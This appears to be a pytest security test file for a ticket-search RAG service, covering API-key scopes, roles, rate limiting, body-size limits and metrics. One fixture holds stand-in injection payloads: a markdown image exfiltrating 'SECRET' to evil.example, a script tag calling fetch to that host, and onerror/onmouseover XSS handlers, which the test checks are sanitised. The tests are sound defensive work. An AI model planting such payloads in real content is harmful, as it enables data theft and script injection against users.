"""API keys, roles and collection scopes on every route (LangServe's included), limits and metrics."""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from fastapi.testclient import TestClient
from langchain_core.embeddings import Embeddings
from langchain_core.language_models.fake_chat_models import FakeListChatModel
from pydantic import SecretStr

from server import create_app
from tests.conftest import LiveServer, make_settings
from ticket_rag.errors import ConfigError
from ticket_rag.settings import Settings

ADMIN = "admin-key-0123456789abcdefghijkl"
TICKET = {
    "title": "Password reset link expired",
    "description": "The reset link says it has expired.",
    "status": "resolved",
}


@pytest.fixture()
def secured(settings: Settings, embeddings: Embeddings) -> Iterator[TestClient]:
    settings = settings.model_copy(update={"allow_anonymous": False, "admin_api_key": SecretStr(ADMIN)})
    llm = FakeListChatModel(responses=["Use a fresh link [T1]."] * 50)
    with TestClient(create_app(settings, embeddings=embeddings, llm=llm)) as client:
        yield client


def _key(client: TestClient, role: int, *collections: str) -> str:
    response = client.post(
        "/admin/keys", json={"name": "t", "role": role, "collections": list(collections)}, headers={"X-API-Key": ADMIN}
    )
    assert response.status_code == 201, response.text
    return str(response.json()["api_key"])


def test_no_key_no_access(secured: TestClient) -> None:
    for method, path in [
        ("GET", "/tickets/"),
        ("POST", "/tickets/search"),
        ("GET", "/collections"),
        ("POST", "/rag/invoke"),
        ("GET", "/rag/input_schema"),
        ("GET", "/rag/playground/"),
        ("POST", "/retriever/invoke"),
        ("GET", "/metrics"),
        ("GET", "/admin/keys"),
    ]:
        response = secured.request(method, path, json={"query": "x", "input": {"question": "x"}})
        assert response.status_code == 401, (method, path, response.status_code)
        assert response.headers["www-authenticate"].startswith("Bearer")
    assert secured.get("/health").status_code == 200
    assert secured.get("/tickets/", headers={"X-API-Key": "trk_dead_beef"}).status_code == 401


def test_keys_are_scoped_to_collections(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    for name in ("acme", "globex"):
        assert secured.post("/collections", json={"name": name}, headers=admin).status_code == 201
    acme_writer = {"X-API-Key": _key(secured, 2, "acme")}
    globex_ticket = secured.post("/tickets/", json={**TICKET, "collection": "globex"}, headers=admin).json()
    acme_ticket = secured.post("/tickets/", json={**TICKET, "collection": "acme"}, headers=acme_writer)
    assert acme_ticket.status_code == 201

    # globex does not exist for an acme key, wherever it asks
    assert (
        secured.get(f"/tickets/{globex_ticket['id']}", params={"collection": "globex"}, headers=acme_writer).status_code
        == 404
    )
    assert (
        secured.post(
            "/tickets/search", json={"query": "password", "collection": "globex"}, headers=acme_writer
        ).status_code
        == 404
    )
    assert (
        secured.get(
            f"/tickets/{globex_ticket['id']}/similar", params={"collection": "globex"}, headers=acme_writer
        ).status_code
        == 404
    )
    assert secured.get("/collections/globex", headers=acme_writer).status_code == 404
    assert [c["name"] for c in secured.get("/collections", headers=acme_writer).json()["data"]] == ["acme"]
    rag = secured.post(
        "/rag/invoke", json={"input": {"question": "reset password", "collection": "globex"}}, headers=acme_writer
    )
    assert rag.status_code == 404
    batch = {"inputs": [{"question": "a", "collection": "acme"}, {"question": "b", "collection": "globex"}]}
    assert secured.post("/rag/batch", json=batch, headers=acme_writer).status_code == 404
    stream = secured.post("/rag/stream", json={"input": {"question": "x", "collection": "globex"}}, headers=acme_writer)
    assert stream.status_code == 404
    assert (
        secured.post(
            "/retriever/invoke", json={"input": {"query": "x", "collection": "globex"}}, headers=acme_writer
        ).status_code
        == 404
    )
    # the default collection is outside its scope too
    assert secured.post("/tickets/search", json={"query": "password"}, headers=acme_writer).status_code == 404

    # inside its scope everything works, and sources come from acme only
    ok = secured.post(
        "/rag/invoke", json={"input": {"question": "reset password", "collection": "acme"}}, headers=acme_writer
    )
    assert ok.status_code == 200
    assert [s["id"] for s in ok.json()["output"]["sources"]] == [acme_ticket.json()["id"]]


def test_roles_nest(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    secured.post("/collections", json={"name": "acme"}, headers=admin)
    reader = {"Authorization": f"Bearer {_key(secured, 1, 'acme')}"}
    assert secured.post("/tickets/search", json={"query": "x", "collection": "acme"}, headers=reader).status_code == 200
    assert secured.post("/tickets/", json={**TICKET, "collection": "acme"}, headers=reader).status_code == 403
    writer = {"X-API-Key": _key(secured, 2, "acme")}
    assert secured.post("/tickets/", json={**TICKET, "collection": "acme"}, headers=writer).status_code == 201
    assert secured.delete("/collections/acme", headers=writer).status_code == 403
    assert secured.post("/admin/keys", json={"name": "x", "collections": ["*"]}, headers=writer).status_code == 403
    assert secured.get("/metrics", headers=writer).status_code == 403


def test_revoked_key_stops_working(secured: TestClient) -> None:
    key = _key(secured, 1, "*")
    assert secured.get("/collections", headers={"X-API-Key": key}).status_code == 200
    key_id = key.split("_")[1]
    listed = secured.get("/admin/keys", headers={"X-API-Key": ADMIN}).json()
    assert [k["key_id"] for k in listed] == [key_id]
    assert "api_key" not in listed[0] and "secret_hash" not in listed[0]
    assert secured.delete(f"/admin/keys/{key_id}", headers={"X-API-Key": ADMIN}).status_code == 204
    assert secured.get("/collections", headers={"X-API-Key": key}).status_code == 401
    wrong_secret = f"trk_{key_id}_{'x' * 43}"
    assert secured.get("/collections", headers={"X-API-Key": wrong_secret}).status_code == 401


def test_keys_are_stored_hashed(secured: TestClient, settings: Settings) -> None:
    key = _key(secured, 1, "*")
    store = secured.app.state.services.api_keys  # type: ignore[attr-defined]
    stored = store.client.collections.use(store.class_name).query.fetch_objects(limit=10).objects
    assert len(stored) == 1
    assert key.split("_", 2)[2] not in str(stored[0].properties)


def test_rate_limit_gives_429_with_retry_after(settings: Settings, embeddings: Embeddings) -> None:
    settings = settings.model_copy(update={"rate_limit_per_minute": 60, "rate_limit_burst": 3})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        codes = [client.get("/collections").status_code for _ in range(5)]
        assert codes[:3] == [200, 200, 200] and codes[3:] == [429, 429]
        limited = client.get("/collections")
        assert int(limited.headers["retry-after"]) >= 1
        assert client.get("/health").status_code == 200  # probes are never limited


def test_oversized_body_is_413_before_parsing(settings: Settings, embeddings: Embeddings) -> None:
    settings = settings.model_copy(update={"max_body_bytes": 10_000})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        response = client.post(
            "/tickets/", content=b'{"title": "' + b"x" * 20_000 + b'"}', headers={"Content-Type": "application/json"}
        )
        assert response.status_code == 413
        assert client.get("/tickets/").json()["count"] == 0


def test_client_configurable_cannot_override_the_chain(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    body = {"input": {"question": "x"}, "config": {"configurable": {"collection": "globex", "k": 1000}}}
    response = secured.post("/rag/invoke", json=body, headers=admin)
    assert response.status_code in (200, 422)
    if response.status_code == 200:
        assert response.json()["output"]["metadata"]["retrieval"]["collection"] == "default"
        assert response.json()["output"]["metadata"]["retrieval"]["k"] == 5


def test_metrics_count_requests_by_route(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    secured.post("/tickets/search", json={"query": "printer"}, headers=admin)
    text = secured.get("/metrics", headers=admin).text
    assert 'ticket_rag_http_requests_total{method="POST",route="/tickets/search",status="200"}' in text
    assert "ticket_rag_http_request_duration_seconds_bucket" in text
    assert 'ticket_rag_embedding_seconds_count{kind="query"}' in text
    assert "ticket_rag_rate_limited_total" in text


def test_production_refuses_unsafe_settings() -> None:
    with pytest.raises(ConfigError, match="CORS_ORIGINS"):
        make_settings(environment="production", cors_origins=["*"])
    with pytest.raises(ConfigError, match="ADMIN_API_KEY"):
        make_settings(environment="production", admin_api_key="short")
    assert make_settings(environment="production").anonymous_allowed is False
    assert make_settings(environment="production", allow_anonymous=True).anonymous_allowed is True
    assert make_settings().anonymous_allowed is True


def test_production_disables_the_playground(settings: Settings, embeddings: Embeddings) -> None:
    settings = settings.model_copy(update={"environment": "production", "admin_api_key": SecretStr(ADMIN)})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        assert client.get("/rag/playground/", headers={"X-API-Key": ADMIN}).status_code == 404
        assert client.get("/tickets/").status_code == 401
        assert client.get("/tickets/", headers={"X-API-Key": ADMIN}).status_code == 200


def test_a_scoped_admin_acts_only_within_its_collections(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    for name in ("acme", "globex"):
        assert secured.post("/collections", json={"name": name}, headers=admin).status_code == 201
    acme_admin = {"X-API-Key": _key(secured, 3, "acme")}
    globex_reader = _key(secured, 1, "globex")
    everywhere = _key(secured, 1, "*")

    for collections in (["*"], ["globex"], ["acme", "globex"]):
        refused = secured.post(
            "/admin/keys", json={"name": "x", "role": 1, "collections": collections}, headers=acme_admin
        )
        assert refused.status_code == 403, (collections, refused.text)
    granted = secured.post("/admin/keys", json={"name": "x", "role": 3, "collections": ["acme"]}, headers=acme_admin)
    assert granted.status_code == 201 and granted.json()["collections"] == ["acme"]

    listed = {k["key_id"]: k["collections"] for k in secured.get("/admin/keys", headers=acme_admin).json()}
    assert all(c == ["acme"] for c in listed.values()) and granted.json()["key_id"] in listed
    for other in (globex_reader, everywhere):
        key_id = other.split("_")[1]
        assert key_id not in listed
        assert secured.delete(f"/admin/keys/{key_id}", headers=acme_admin).status_code == 404
        assert secured.get("/collections", headers={"X-API-Key": other}).status_code == 200  # still valid
    assert secured.delete("/collections/globex", headers=acme_admin).status_code == 404
    assert secured.get("/metrics", headers=acme_admin).status_code == 403  # metrics span every collection
    # the unscoped admin still sees and manages every key
    assert len(secured.get("/admin/keys", headers=admin).json()) == 4


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/rag/invoke", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
        ("/rag/stream", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
        ("/rag/stream_log", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
        ("/rag/stream_events", {"input": {"question": "reset password", "collection": "globex"}, "inputs": []}),
        ("/retriever/invoke", {"input": {"query": "reset password", "collection": "globex"}, "inputs": []}),
        ("/rag/batch", {"inputs": [{"question": "reset password", "collection": "acme"}], "input": {"question": "x"}}),
    ],
)
def test_a_langserve_body_with_fields_its_endpoint_does_not_read_is_refused(
    secured: TestClient, path: str, body: dict[str, object]
) -> None:
    """The scope check reads what LangServe runs: `inputs` beside `input` was a way around it (issue 13)."""
    admin = {"X-API-Key": ADMIN}
    for name in ("acme", "globex"):
        secured.post("/collections", json={"name": name}, headers=admin)
    secured.post("/tickets/", json={**TICKET, "title": "GLOBEX-ONLY reset", "collection": "globex"}, headers=admin)
    acme_reader = {"X-API-Key": _key(secured, 1, "acme")}
    response = secured.post(path, json=body, headers=acme_reader)
    assert response.status_code == 422, response.text
    assert "GLOBEX-ONLY" not in response.text
    extra = "input" if path.endswith("/batch") else "inputs"
    assert any(error["loc"] == ["body", extra] for error in response.json()["detail"]), response.json()


def test_a_misspelt_input_field_is_refused_not_answered_from_the_default_collection(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    response = secured.post("/rag/invoke", json={"input": {"question": "x", "colection": "acme"}}, headers=admin)
    assert response.status_code == 422
    assert any(error["loc"][-1] == "colection" for error in response.json()["detail"])


def test_the_retriever_refuses_k_above_the_cap_like_the_chain(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    response = secured.post("/retriever/invoke", json={"input": {"query": "x", "k": 50}}, headers=admin)
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "input", "k"]
    assert secured.post("/retriever/invoke", json={"input": {"query": "x", "k": 20}}, headers=admin).status_code == 200


def test_failed_authentication_is_throttled_per_address(secured: TestClient) -> None:
    codes = [secured.get("/tickets/", headers={"X-API-Key": f"trk_dead{n}_beef"}).status_code for n in range(12)]
    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429], codes
    # once throttled, the address is refused before any key is looked at, even a valid one
    limited = secured.get("/tickets/", headers={"X-API-Key": ADMIN})
    assert limited.status_code == 429 and int(limited.headers["retry-after"]) >= 1


def test_production_serves_the_api_description_only_with_a_key(settings: Settings, embeddings: Embeddings) -> None:
    settings = settings.model_copy(update={"environment": "production", "admin_api_key": SecretStr(ADMIN)})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        assert client.get("/docs").status_code == 404
        assert client.get("/redoc").status_code == 404
        assert client.get("/openapi.json").status_code == 401
        described = client.get("/openapi.json", headers={"X-API-Key": ADMIN})
        assert described.status_code == 200 and "/tickets/search" in described.json()["paths"]


def test_generation_off_answer_carries_no_markup_from_tickets(settings: Settings, embeddings: Embeddings) -> None:
    """With LLM_PROVIDER=none the answer lists tickets: their text is untrusted, so it is sanitised like any answer."""
    poisoned = {
        "title": "![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> VPN drops",
        "description": "VPN drops every hour. <script>fetch('https://evil.example')</script>",
        "resolution": "See [this](https://evil.example/steal) and <div onmouseover=alert(1)>restart</div> the client.",
        "status": "resolved",
    }
    with TestClient(create_app(settings, embeddings=embeddings, llm=None)) as client:
        client.post("/tickets/", json=poisoned)
        output = client.post("/rag/invoke", json={"input": {"question": "VPN drops every hour"}}).json()["output"]
    answer = output["answer"]
    assert "VPN drops" in answer and "restart" in answer
    for bad in ("evil.example", "<img", "onerror", "<script", "onmouseover", "!["):
        assert bad not in answer, (bad, answer)
    assert "evil.example" in output["sources"][0]["title"]  # sources carry the raw text, as stored


def test_an_oversized_streamed_body_is_413_without_an_error_in_the_log(
    settings: Settings, embeddings: Embeddings, caplog: pytest.LogCaptureFixture
) -> None:
    settings = settings.model_copy(update={"max_body_bytes": 10_000})

    def chunks() -> Iterator[bytes]:
        yield b'{"title": "'
        for _ in range(40):
            yield b"x" * 1000
        yield b'"}'

    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        response = client.post("/tickets/", content=chunks(), headers={"Content-Type": "application/json"})
        assert response.status_code == 413
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")], caplog.text


def _big_body(read: list[str]) -> Iterator[bytes]:
    """A 1 MB body of a third of a million empty arrays, noting whether the service ever asked for it."""
    read.append("read")
    yield b"[" + b",".join([b"[]"] * 350_000) + b"]"


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/tickets/search", {}),
        ("/rag/invoke", {}),
        ("/tickets/", {"X-API-Key": "trk_dead_beef"}),
        ("/retriever/invoke", {"Authorization": "Bearer not-a-key"}),
    ],
)
def test_a_body_without_a_valid_key_is_refused_unread(secured: TestClient, path: str, headers: dict[str, str]) -> None:
    """401 from the headers alone: the body is never read, decoded or parsed (it used to freeze the event loop)."""
    read: list[str] = []
    response = secured.post(path, content=_big_body(read), headers={"Content-Type": "application/json", **headers})
    assert response.status_code == 401, response.text
    assert response.headers["www-authenticate"].startswith("Bearer")
    assert read == []
    # with a valid key the same body is read, and answered by the route
    admitted = secured.post(
        path, content=_big_body(read), headers={"Content-Type": "application/json", "X-API-Key": ADMIN}
    )
    assert admitted.status_code == 422 and read == ["read"]


def test_invalid_keys_sending_bodies_are_throttled_before_the_body_is_read(secured: TestClient) -> None:
    read: list[str] = []
    codes = [
        secured.post("/tickets/search", content=_big_body(read), headers={"X-API-Key": f"trk_dead{n}_beef"}).status_code
        for n in range(12)
    ]
    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429], codes
    assert read == []


def test_a_request_with_a_body_takes_one_rate_limit_token(settings: Settings, embeddings: Embeddings) -> None:
    """The key gate and the route's dependency resolve the caller once between them."""
    settings = settings.model_copy(update={"rate_limit_per_minute": 60, "rate_limit_burst": 3})
    with TestClient(create_app(settings, embeddings=embeddings)) as client:
        codes = [client.post("/tickets/search", json={"query": "x"}).status_code for _ in range(4)]
        assert codes == [200, 200, 200, 429], codes


def test_admin_and_collection_bodies_refuse_unknown_fields(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN}
    for path, body in [
        ("/admin/keys", {"name": "t", "role": 1, "collections": ["acme"], "zz": 1}),
        ("/collections", {"name": "acme", "zz": 1}),
    ]:
        response = secured.post(path, json=body, headers=admin)
        assert response.status_code == 422, (path, response.text)
        assert [e["loc"] for e in response.json()["detail"]] == [["body", "zz"]], response.json()
    assert secured.get("/admin/keys", headers=admin).json() == []


def test_a_delete_with_a_body_and_no_key_is_refused_unread(
    settings: Settings, embeddings: Embeddings, caplog: pytest.LogCaptureFixture
) -> None:
    """Over a real socket (uvicorn): a body past MAX_BODY_BYTES on a DELETE is refused unread, without an error.

    A declared Content-Length over the limit is answered 413 by Starlette's limiter in place of the key gate's 401:
    either is right; a traceback in the log is not (anyone could write them at will)."""
    settings = settings.model_copy(update={"allow_anonymous": False, "admin_api_key": SecretStr(ADMIN)})
    with LiveServer(create_app(settings, embeddings=embeddings)) as server:
        path = f"{server.url}/tickets/00000000-0000-0000-0000-000000000000"
        response = httpx.request("DELETE", path, content=b"a" * 6_000_000, headers={"Content-Type": "application/json"})
        unsized = httpx.request("DELETE", path, content=iter([b"a" * 1_000_000] * 6))  # chunked: no length declared
    assert response.status_code == 413, response.text
    assert unsized.status_code == 401, unsized.text
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")], caplog.text


def test_two_different_keys_in_one_request_are_refused_and_counted(secured: TestClient) -> None:
    both = {"X-API-Key": ADMIN, "Authorization": "Bearer trk_dead_beef"}
    assert secured.get("/tickets/", headers=both).status_code == 401
    same = {"X-API-Key": ADMIN, "Authorization": f"Bearer {ADMIN}"}
    assert secured.get("/tickets/", headers=same).status_code == 200
    codes = [secured.get("/tickets/", headers=both).status_code for _ in range(11)]
    assert codes[-1] == 429, codes  # the wrong key spends the address's failures like any wrong key


def test_invented_methods_share_one_metrics_label(secured: TestClient) -> None:
    for n in range(5):
        secured.request(f"M{n}X", "/nowhere")
    metrics = secured.get("/metrics", headers={"X-API-Key": ADMIN}).text
    assert 'method="M0X"' not in metrics and 'method="other"' in metrics


def test_open_probes_stay_open_whatever_framing_a_proxy_adds(secured: TestClient) -> None:
    assert secured.request("GET", "/health", content=b"probe").status_code == 200
    assert secured.request("GET", "/health", content=iter([b"probe"])).status_code == 200  # chunked


def test_a_body_over_the_limit_is_counted_as_a_413_not_a_500(secured: TestClient) -> None:
    admin = {"X-API-Key": ADMIN, "Content-Type": "application/json"}
    refused = secured.post("/tickets/search", content=iter([b"[" + b"1," * 2_500_000 + b"1]"]), headers=admin)
    assert refused.status_code == 413
    metrics = secured.get("/metrics", headers={"X-API-Key": ADMIN}).text
    assert 'status="413"' in metrics, metrics[:2000]
    assert 'status="500"' not in metrics
